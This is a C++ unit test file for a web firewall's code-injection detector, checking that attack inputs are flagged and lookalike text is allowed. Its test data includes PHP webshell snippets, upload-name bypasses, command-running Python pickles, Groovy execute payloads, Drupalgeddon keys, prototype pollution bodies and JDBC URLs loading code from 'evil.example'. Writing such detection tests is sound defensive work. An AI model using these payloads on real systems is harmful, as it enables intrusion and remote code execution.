// PHP code injection: calls in statement position, callable and concatenation tricks,
// variable functions behind comments, short open tags, upload names; and the benign text
// that looks similar.
#include <gtest/gtest.h>

#include <string>

#include "libs/detect/test_util.h"

namespace shieldx::detect {
namespace {

using testing::Flagged;
using testing::HasCategory;
using testing::Inspect;
using testing::InspectAsForm;
using testing::InspectAsJson;
using testing::InspectQueryValue;

class PhpCode : public ::testing::TestWithParam<const char*> {};
TEST_P(PhpCode, IsBlockedAsCodeInjection) {
  Verdict v = InspectQueryValue(GetParam());
  EXPECT_TRUE(Flagged(v)) << GetParam() << " -> " << v.explanation;
  EXPECT_TRUE(HasCategory(v, Category::kCodeInjection)) << GetParam() << " -> " << v.explanation;
}
INSTANTIATE_TEST_SUITE_P(
    Payloads, PhpCode,
    ::testing::Values(
        // Calls as statements, with comments between the name and the parenthesis.
        "exec //note\n (ls)", "passthru #x\n ('id')", "file_get_contents ( '/etc/hosts' )",
        "posix_getpwuid(0)", "curl_init()", "';phpinfo();//", "strrev( )", "gzinflate($d);",
        "get_defined_vars()[0]", "base64_decode(",
        // Names built from strings and wrapped in parentheses or arrays.
        "('sy'.'stem')('id')", "(\"exec \")(\"id\")", "(sy.(st).em)('id');", "[system][0]('id');",
        "( string ) \"sys\" . \"tem\" ('id');", "define('z', 'ex'.'ec');(z)('id');",
        "$q = 'pass'.'thru'; ($q)('id');",
        // Variable functions behind braces, indexes and comments.
        "${@x}(1)", "$_x[1]['a'] /*c*/ (2)", "$a //c\n()", "$O0O{0}(3)",
        // Short open tags and evaluated [php] blocks.
        "<?xml:echo 1;", "<?xml (); echo 1;", "value<?", "[php]echo 'a';[/php]",
        // Variable variables with a gap, variable methods, php.ini directive lines.
        "$  {'_GET'}", "$ {$x}", "$o->$m()", "allow_url_include=1",
        "-d auto_prepend_file=php://input", "opcache.jit_buffer_size = 0"));

class PhpLookalike : public ::testing::TestWithParam<const char*> {};
TEST_P(PhpLookalike, IsAllowed) {
  Verdict v = InspectQueryValue(GetParam());
  EXPECT_FALSE(Flagged(v)) << GetParam() << " -> " << v.explanation;
}
INSTANTIATE_TEST_SUITE_P(
    Text, PhpLookalike,
    ::testing::Values("system(s) failure reported", "the operating-system (OS) guide",
                      "file(s) attached", "intval(price)", "printf(name)", "$.each(list, render)",
                      "<?xml version=\"1.0\"?><a>1</a>", "Price $5 (approx)", "$10 (incl. tax)",
                      "see exec summary (page 2)", "<?xml-stylesheet href=\"a.xsl\"?>", "$ { }",
                      "costs $ {see table}x", "the memory_limit setting is low",
                      "my include_path question", "a[0] and b[1] (see above)"));

OwnedHttpRequest Upload(const std::string& filename) {
  std::string body =
      "--b0undary\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + filename +
      "\"\r\nContent-Type: application/octet-stream\r\n\r\nhello\r\n--b0undary--\r\n";
  return testing::Post("/upload", "multipart/form-data; boundary=b0undary", body);
}

TEST(PhpUpload, ScriptExtensionsBehindSpacesAndSuffixesAreBlocked) {
  for (const char* name : {"photo. php", "shell.php7", "x.phpt", "a. php.jpg", "b.phar .png",
                           "c.php..............", ".htaccess", ".user.ini", "wp-config.php.bak"}) {
    Verdict v = Inspect(Upload(name));
    EXPECT_TRUE(HasCategory(v, Category::kCodeInjection)) << name << " -> " << v.explanation;
  }
}

TEST(ServerPageUpload, JspAndAspxBehindSpacesAreBlocked) {
  for (const char* name : {"shell. jsp", "shell. jspx", "a .aspx", "x. ashx"}) {
    Verdict v = Inspect(Upload(name));
    EXPECT_TRUE(HasCategory(v, Category::kCodeInjection)) << name << " -> " << v.explanation;
  }
}

TEST(PhpUpload, OrdinaryFileNamesAreAllowed) {
  for (const char* name : {"photo.png", "report.phpdoc.pdf", "session_notes.txt", "sess_1.txt",
                           "graph.php-chart.png", "jsp notes.txt", "asp. net intro.pdf"}) {
    Verdict v = Inspect(Upload(name));
    EXPECT_FALSE(Flagged(v)) << name << " -> " << v.explanation;
  }
}

OwnedHttpRequest UploadContent(const std::string& type, const std::string& content) {
  std::string body =
      "--b0undary\r\nContent-Disposition: form-data; name=\"file\"; filename=\"pic.jpg\"\r\n"
      "Content-Type: " +
      type + "\r\n\r\n" + content + "\r\n--b0undary--\r\n";
  return testing::Post("/upload", "multipart/form-data; boundary=b0undary", body);
}

TEST(ScriptInUpload, AServerPageBehindAnImageNameOrTypeIsBlocked) {
  const std::string jpeg_head("\xff\xd8\xff\xe0\x00\x10JFIF\x00<\x01", 14);
  for (const char* page :
       {"<?php system($_GET['c']); ?>", "<?PHP eval($_POST[1]);",
        "<%@ page import=\"java.io.*\" %>", "<jsp:scriptlet>Runtime.getRuntime()</jsp:scriptlet>",
        "<%eval request(\"x\")%>", "<script runat=\"server\">Response.Write(1)</script>",
        "<%@ Language=VBScript %>"}) {
    for (const char* type : {"image/jpeg", "application/octet-stream"}) {
      Verdict v = Inspect(UploadContent(type, jpeg_head + "GIF89a;" + page));
      EXPECT_TRUE(Flagged(v)) << page << " as " << type << " -> " << v.explanation;
      EXPECT_TRUE(HasCategory(v, Category::kCodeInjection)) << page;
    }
  }
}

TEST(ScriptInUpload, BinaryAndMarkupWithoutAServerPageAreAllowed) {
  std::string binary;
  for (int i = 0; i < 4096; ++i) binary.push_back(static_cast<char>((i * 131 + 7) % 256));
  for (const std::string& content :
       {binary, std::string("GIF89a <x <y <% <%= 1 %> <?xml version=\"1.0\"?> <? <?ph <%@")}) {
    Verdict v = Inspect(UploadContent("image/gif", content));
    EXPECT_FALSE(Flagged(v)) << v.explanation;
  }
}

// A variable with a short or mangled name called as a function is a webshell's call only
// when the argument list closes; random tokens (generated passwords) hold "$K(l#" by chance.
TEST(PhpVariableFunction, AnObfuscatedCallMustCloseItsArguments) {
  for (const char* value : {"$x(1)", "$_($__)", "$a/*x*/()", "$f(\"ls\");", "$a[0]('id')"}) {
    Verdict v = InspectAsForm(value);
    EXPECT_TRUE(HasCategory(v, Category::kCodeInjection) && Flagged(v))
        << value << " -> " << v.explanation;
  }
  for (const char* value : {"m^H=}$K(l#(88p:H", "=U1$z(H{nTH{G\\%.", "*CE]$iK6(;;4pM"}) {
    Verdict v = InspectAsForm(value);
    EXPECT_FALSE(Flagged(v)) << value << " -> " << v.explanation;
  }
}

// A PHP name that is also an English word with a number in parentheses is the name a file
// manager gives a duplicate ("file (1).txt", "copy (2)"); a call in statement position with
// code in it, or the number glued to the name alone, still counts.
TEST(PhpGenericName, DuplicateFileNamesAreNoCalls) {
  for (const char* value :
       {"file (1).txt", "file(1).txt", "file (2)", "copy (1).docx", "header (3).png"}) {
    Verdict v = InspectQueryValue(value);
    EXPECT_FALSE(Flagged(v)) << value << " -> " << v.explanation;
  }
  for (const char* value : {"file(1)", "file('/etc/passwd')", "chr(65).chr(66)", "printf(1);"}) {
    Verdict v = InspectQueryValue(value);
    EXPECT_TRUE(HasCategory(v, Category::kCodeInjection) && Flagged(v))
        << value << " -> " << v.explanation;
  }
}

// A PHP-only function name glued after letters or digits and called ("FOOgzinflate()") is a
// probe for keyword filters that want a word boundary. A wrapper after an underscore
// ("url_base64_decode"), a word ending in a short name ("ecosystem()", "cheval($x)") and the
// name without a call are not.
TEST(PhpGluedName, ACallOfADistinctiveNameAfterLettersIsBlocked) {
  for (const char* value : {"FOOcall_user_func()", "xgzinflate($d)", "FOOGzInFlAtE()",
                            "abc1fsockopen('h', 25)", "zzshell_exec(x)"}) {
    Verdict v = InspectQueryValue(value);
    EXPECT_TRUE(HasCategory(v, Category::kCodeInjection) && Flagged(v))
        << value << " -> " << v.explanation;
  }
  for (const char* value :
       {"url_base64_decode(data)", "my_shell_exec($cmd)", "ecosystem()", "cheval($foo)",
        "FOOgzinflate", "FOOgzinflate is not a function", "x_call_user_func()"}) {
    Verdict v = InspectQueryValue(value);
    EXPECT_FALSE(Flagged(v)) << value << " -> " << v.explanation;
  }
}

TEST(PhpCallbackName, AFunctionNamedAsAParameterIsBlocked) {
  for (const char* name : {"call_user_func_array", "CALL_USER_FUNC", " shell_exec ",
                           "create_function", "forward_static_call_array"}) {
    Verdict v = InspectQueryValue(name);
    EXPECT_TRUE(Flagged(v)) << name << " -> " << v.explanation;
  }
  // Words and settings that PHP also uses as function names; longer names around one.
  for (const char* word : {"system", "exec", "passthru", "assert", "call_user", "my_shell_exec",
                           "shell_exec_log", "call_user_func_array is deprecated here"}) {
    Verdict v = InspectQueryValue(word);
    EXPECT_FALSE(Flagged(v)) << word << " -> " << v.explanation;
  }
}

TEST(PhpUpload, SessionFileNameInUploadHeaderIsBlocked) {
  OwnedHttpRequest r = testing::Get("/upload");
  r.headers.emplace_back("X-Filename", "/tmp/sess_0123456789abcdefghij");
  Verdict v = Inspect(r);
  EXPECT_TRUE(Flagged(v)) << v.explanation;
  OwnedHttpRequest ok = testing::Get("/upload");
  ok.headers.emplace_back("X-Filename", "holiday.jpg");
  EXPECT_FALSE(Flagged(Inspect(ok)));
}

// Error reports and configuration pasted into trackers and editors: they name Java classes,
// Python modules and PHP sections where code was, not code to run.
class ErrorReportBenign : public ::testing::TestWithParam<const char*> {};
TEST_P(ErrorReportBenign, IsAllowedInFormAndJson) {
  Verdict f = InspectAsForm(GetParam());
  EXPECT_FALSE(Flagged(f)) << GetParam() << " -> " << f.explanation;
  Verdict j = InspectAsJson(GetParam());
  EXPECT_FALSE(Flagged(j)) << GetParam() << " -> " << j.explanation;
}
INSTANTIATE_TEST_SUITE_P(
    Reports, ErrorReportBenign,
    ::testing::Values(
        // Java: a throwable's name, frames with source lines, a JDK 9+ module prefix.
        "java.lang.NullPointerException: Cannot invoke \"String.length()\" because \"s\" is null\n"
        "\tat com.acme.shop.CartService.total(CartService.java:42)\n"
        "\tat org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:883)\n"
        "\tat java.base/java.lang.Thread.run(Thread.java:833)",
        "Caused by: java.io.FileNotFoundException: /opt/app/config/application.yml (No such file "
        "or directory)\n\tat java.io.FileInputStream.open0(Native Method)",
        // Python: frames name subprocess.py; the first word of each frame line is "File".
        "Traceback (most recent call last):\n  File \"/usr/lib/python3.11/subprocess.py\", line "
        "1024, in __init__\n    self._execute_child(args, executable, preexec_fn, close_fds,\n"
        "subprocess.CalledProcessError: Command '['make', 'test']' returned non-zero exit status "
        "2.",
        // php.ini's [PHP] section (the BBCode-style [php] block needs its code).
        "[PHP]\nmemory_limit = 256M\nupload_max_filesize = 64M\n",
        // .NET and PHP traces with server paths.
        "System.IO.DirectoryNotFoundException: Could not find a part of the path "
        "'C:\\inetpub\\wwwroot\\App_Data\\log.txt'.\n   at "
        "System.IO.FileStream.ValidateFileHandle()",
        "PHP Fatal error:  Uncaught Error: Call to undefined function mysql_connect() in "
        "/var/www/html/includes/db.php:12\nStack trace:\n#0 /var/www/html/index.php(5): "
        "include()",
        // Standard-library type names in questions; another npm package's name.
        "How do I sort a java.util.List of maps?", "java.util.List",
        "npm install child_process-promise lodash.template",
        // Node code loading pure helpers.
        "const path = require('path');\nconst cfg = path.join(__dirname, 'config', "
        "'default.json');\n"));

class CodeStillBlocked : public ::testing::TestWithParam<const char*> {};
TEST_P(CodeStillBlocked, IsBlocked) {
  Verdict v = InspectAsForm(GetParam());
  EXPECT_TRUE(HasCategory(v, Category::kCodeInjection) && Flagged(v))
      << GetParam() << " -> " << v.explanation;
}
INSTANTIATE_TEST_SUITE_P(Payloads, CodeStillBlocked,
                         ::testing::Values("java.lang.Runtime", "java.lang.ProcessBuilder",
                                           "T(java.lang.Runtime).getRuntime().exec('id')",
                                           "[php]\nsystem('id');", "[php]x=1[/php]",
                                           "__import__('subprocess').check_output('id')",
                                           "subprocess.Popen(['id'])",
                                           // Used types and vendor/JDK-internal packages.
                                           "new java.util.Scanner(is)", "com.opensymphony.xwork2",
                                           "javax.naming.InitialContext",
                                           "require('child_process')", "require('fs')",
                                           "require('node:net').connect(4444)"));

// Node's module object written to or reached into as the whole value, and require indexed
// with an expression (the loader reached without its name in a call). The same names in a
// sentence, inside a longer name, compared, or in a saved source file are not a probe.
TEST(NodeModuleNames, ExportsAndIndexedRequireAreBlocked) {
  for (const char* value :
       {"module.exports=", "module.exports = { run }", "module.exports.x = 1",
        "module.exports['x']", "require[req.query.a", "(require[\"ma\"+\"in\"])"}) {
    Verdict v = InspectAsForm(value);
    EXPECT_TRUE(HasCategory(v, Category::kCodeInjection) && Flagged(v))
        << value << " -> " << v.explanation;
  }
  for (const char* value :
       {"set module.exports.", "the module.exports object is empty", "submodule.exports = 3",
        "prerequire[x]", "module.exports == null", "fields[require][0]",
        "const x = 1;\nmodule.exports = { x };\n", "x = 1; module.exports = { x }"}) {
    Verdict v = InspectAsForm(value);
    EXPECT_FALSE(Flagged(v)) << value << " -> " << v.explanation;
  }
}

// The names are found in one pass over the value (first eight bytes compared as one word,
// shorter tails byte by byte): wherever a name stands, at the first byte, ending at the last,
// or past the length from which values get a byte-pair filter, the verdict is the same.
TEST(CodeInjectionNames, AreFoundWhereverTheyStand) {
  const std::string filler = "ab cd ef gh ";
  for (const char* name :
       {"__proto__", "constructor.constructor", "<?php", "php://input", "child_process",
        "processbuilder", "o:8:\"stdclass\":0:{}", "t(java.lang.runtime)", "$_get", "%x("}) {
    for (std::size_t before : {0, 1, 2, 3, 7, 8, 9, 15, 120, 127, 128, 131, 300}) {
      for (const char* after : {"", " ", " x", " xyz wv", " xyz uvw"}) {
        std::string prefix;
        while (prefix.size() < before) prefix += filler;
        prefix.resize(before);
        if (before > 0) prefix.back() = ' ';
        std::string value = prefix + name + after;
        Verdict v = InspectQueryValue(value);
        EXPECT_TRUE(HasCategory(v, Category::kCodeInjection) && Flagged(v))
            << value << " -> " << v.explanation;
      }
    }
  }
}

// The root package of a deserialization gadget library, named alone, probes for it (a class
// under it was already judged); longer names and build coordinates are other names.
TEST(JavaGadgetPackage, ALibraryRootNamedAloneIsBlocked) {
  for (const char* v : {"org.apache.commons", "org.omg.CORBA", "see org.apache.commons.",
                        "[\"org.omg.corba\",{}]", "org.apache.commons.collections",
                        // other libraries' names still match with more after them
                        "com.alibaba.fastjson2.JSON"}) {
    Verdict r = InspectQueryValue(v);
    EXPECT_TRUE(HasCategory(r, Category::kCodeInjection) && Flagged(r))
        << v << " -> " << r.explanation;
  }
  EXPECT_TRUE(Flagged(
      Inspect(testing::Post("/api", "application/json", R"({"org.apache.commons": "test"})"))));
  for (const char* v :
       {"org.apache.commonsx", "org.apache.common", "org.omg",
        "org.apache.commons:commons-text:1.10.0", "org.apache.commons-io", "xorg.apache.commons"}) {
    Verdict r = InspectQueryValue(v);
    EXPECT_FALSE(Flagged(r)) << v << " -> " << r.explanation;
  }
}

// SSTI's entry test reads short values in one pass and long ones by searches: expressions
// at either end of a value of either kind are still found.
TEST(TemplateExpressions, AreFoundInShortAndLongValues) {
  for (const char* expr : {"{{7*7}}", "<%= 7*7 %>", "#set($x=7*7)${x}", "[[${7*7}]]"}) {
    for (std::size_t before : {0, 1, 40, 63, 64, 65, 200}) {
      std::string value = std::string(before, 'a') + (before > 0 ? " " : "") + expr;
      Verdict v = InspectQueryValue(value);
      EXPECT_TRUE(HasCategory(v, Category::kSsti) && Flagged(v))
          << value << " -> " << v.explanation;
    }
  }
}

// The template fuzz string packs the openers of several engines into a few bytes of
// punctuation; template syntax named in a sentence, or one engine's expression, is not it.
TEST(TemplatePolyglot, TheFuzzStringIsBlocked) {
  for (const char* probe : {"${{<%[%'\"}}%\\.", "{{${<%", "<%[%#{x"}) {
    Verdict v = InspectQueryValue(probe);
    EXPECT_TRUE(HasCategory(v, Category::kSsti) && Flagged(v)) << probe << " -> " << v.explanation;
  }
  for (const char* text : {"use {{ name }} in Jinja, ${name} in Groovy, <%= name %> in ERB",
                           "${}{{}}", "Hello ${user}, {{greeting}}"}) {
    Verdict v = InspectQueryValue(text);
    EXPECT_FALSE(Flagged(v)) << text << " -> " << v.explanation;
  }
}

// A "prototype" key inside a "constructor" object pollutes Object.prototype through a deep
// merge, as "__proto__" does; the same words as ordinary keys do not.
TEST(PrototypePollution, ConstructorPrototypeKeysInJsonAreBlocked) {
  for (const char* body : {"{\"constructor\":{\"prototype\":{\"isAdmin\":true}}}",
                           "{\"a\":[{\"constructor\":{\"prototype\":{\"x\":1}}}]}"}) {
    Verdict v = Inspect(testing::Post("/api/profile", "application/json", body));
    EXPECT_TRUE(HasCategory(v, Category::kCodeInjection) && Flagged(v))
        << body << " -> " << v.explanation;
    // The same document carried in an argument or a cookie, and qs-style dotted names.
    for (const OwnedHttpRequest& r :
         {testing::Get("/api?filter=" + testing::UrlEncode(body)),
          testing::WithHeader(testing::Get("/"), "Cookie", "prefs=" + testing::UrlEncode(body)),
          testing::Get("/api?constructor.prototype.isAdmin=1")}) {
      Verdict carried = Inspect(r);
      EXPECT_TRUE(HasCategory(carried, Category::kCodeInjection) && Flagged(carried))
          << r.uri << " -> " << carried.explanation;
    }
  }
  for (const char* body : {"{\"prototype\":{\"name\":\"v2\"},\"constructor\":\"Acme builders\"}",
                           "{\"constructor\":{\"name\":\"Bob\"},\"prototype\":true}",
                           "{\"myconstructor\":{\"prototype\":1}}"}) {
    Verdict v = Inspect(testing::Post("/api/profile", "application/json", body));
    EXPECT_FALSE(Flagged(v)) << body << " -> " << v.explanation;
  }
}

// Python pickles that import a command or code runner (os/posix system, subprocess, which
// protocols 0-2 write as "commands", builtins eval), as protocol-0 text or base64 of any
// protocol, in a cookie or argument. A pickle of plain data and letters whose lines read
// "cos" and "system" are allowed.
TEST(PythonPickle, PicklesThatImportARunnerAreBlocked) {
  for (const char* value : {
           "cposix\nsystem\np0\n(Vid\np1\ntp2\nRp3\n.",
           "Y3Bvc2l4CnN5c3RlbQpxAChYAgAAAGlkcQF0cQJScQMu",                          // protocol 1
           "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",                      // 2
           "gANjc3VicHJvY2VzcwpjaGVja19vdXRwdXQKcQBdcQFYAgAAAGlkcQJhhXEDUnEELg==",  // 3
           "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",              // 4
           "gAWVHwAAAAAAAACMCGJ1aWx0aW5zlIwEZXZhbJSTlIwDMSsxlIWUUpQu",  // 5, builtins.eval
           "Y2NvbW1hbmRzCmNoZWNrX291dHB1dApwMAooKGxwMQpWaWQKcDIKYXRwMwpScDQKLg==",
       }) {
    Verdict v = InspectAsForm(value);
    EXPECT_TRUE(HasCategory(v, Category::kCodeInjection) && Flagged(v))
        << value << " -> " << v.explanation;
    if (std::string_view(value).find('\n') != std::string_view::npos) continue;
    OwnedHttpRequest r = testing::Get("/account");
    r.headers.emplace_back("Cookie", std::string("theme=dark; session=") + value);
    Verdict c = Inspect(r);
    EXPECT_TRUE(HasCategory(c, Category::kCodeInjection) && Flagged(c))
        << value << " -> " << c.explanation;
  }
  for (const char* value : {"gASVIAAAAAAAAAB9lCiMAWGUXZQoSwFLAksDZYwEdXNlcpSMA2FubpR1Lg==",
                            "KGRwMApWYQpwMQoobHAyCkkxCmFJMgphSTMKYXNWdXNlcgpwMwpWYW5uCnA0CnMu",
                            "Dear team,\ncos\nsystem\nupgrade planned", "Costs\nsystem\nnotes",
                            "gAAAAABlxyz0123456789abcdefghijklmnopqrstuv"}) {
    Verdict v = InspectAsForm(value);
    EXPECT_FALSE(Flagged(v)) << value << " -> " << v.explanation;
  }
}

// Groovy's String.execute() and List.execute() run a command (Jenkins' script console,
// OFBiz's groovyProgram); a method named execute on anything else is an ordinary call.
TEST(GroovyExecute, AStringOrListLiteralExecutedIsBlocked) {
  for (const char* value : {"'id'.execute().text", "throw new Exception('id'.execute().text);",
                            "println \"uname -a\".execute().text", "['sh','-c','id'].execute()"}) {
    Verdict v = InspectQueryValue(value);
    EXPECT_TRUE(HasCategory(v, Category::kCodeInjection) && Flagged(v))
        << value << " -> " << v.explanation;
  }
  for (const char* value :
       {"cursor.execute(\"SELECT 1\")", "jobs[i].execute(ctx)", "stmt.execute()",
        "Please execute('the plan') today", "task.execute(); done"}) {
    Verdict v = InspectQueryValue(value);
    EXPECT_FALSE(testing::HasRule(v, "code.groovy-execute")) << value << " -> " << v.explanation;
  }
}

// JDBC URLs whose driver properties run code or read files on connect (data-source forms of
// Metabase, Superset, Druid, H2's console); a plain JDBC URL, and prose about the properties
// beside one, are configuration.
TEST(JdbcUrl, DriverPropertiesThatRunCodeAreBlocked) {
  for (const char* value :
       {"jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
        "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3\\;CREATE TRIGGER t BEFORE SELECT ON x AS "
        "'//javascript'",
        "jdbc:mysql://evil.example:3306/x?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc."
        "interceptors.ServerStatusDiffInterceptor",
        "jdbc:mysql://db:3306/x?allowLoadLocalInfile=true",
        "jdbc:postgresql://db/x?socketFactory=org.springframework.context.support."
        "ClassPathXmlApplicationContext&socketFactoryArg=http://evil.example/x.xml"}) {
    Verdict v = InspectQueryValue(value);
    EXPECT_TRUE(testing::HasRule(v, "code.jdbc-url-injection") && Flagged(v))
        << value << " -> " << v.explanation;
  }
  for (const char* value : {"jdbc:postgresql://db.internal:5432/shop?sslmode=require",
                            "jdbc:mysql://db:3306/app?useSSL=true&serverTimezone=UTC",
                            "Use jdbc:h2:mem:test and set INIT= only in tests",
                            "jdbc:sqlserver://db;databaseName=x;encrypt=true"}) {
    Verdict v = InspectQueryValue(value);
    EXPECT_FALSE(testing::HasRule(v, "code.jdbc-url-injection"))
        << value << " -> " << v.explanation;
  }
}

// Drupal render-array properties as form keys ("mail[#post_render][]=exec", Drupalgeddon 2);
// '#' elsewhere in a key, and in values, is no such thing.
TEST(RenderArrayKey, HashPropertiesInArgumentKeysAreBlocked) {
  OwnedHttpRequest r =
      testing::Post("/user/register?element_parents=account/mail/%23value&ajax_form=1",
                    "application/x-www-form-urlencoded",
                    "form_id=user_register_form&mail[%23post_render][]=exec&mail[%23markup]=id");
  Verdict v = Inspect(r);
  EXPECT_TRUE(testing::HasRule(v, "code.render-array-injection") && Flagged(v)) << v.explanation;
  v = Inspect(testing::Get("/x?a[%23lazy_builder][0]=system"));
  EXPECT_TRUE(testing::HasRule(v, "code.render-array-injection")) << v.explanation;
  for (const char* uri : {"/x?tag=%23blue", "/x?color[%23]=1", "/x?a[1%23]=2", "/x?q=a[%23b]"}) {
    v = Inspect(testing::Get(uri));
    EXPECT_FALSE(testing::HasRule(v, "code.render-array-injection")) << uri << v.explanation;
  }
}

}  // namespace
}  // namespace shieldx::detect
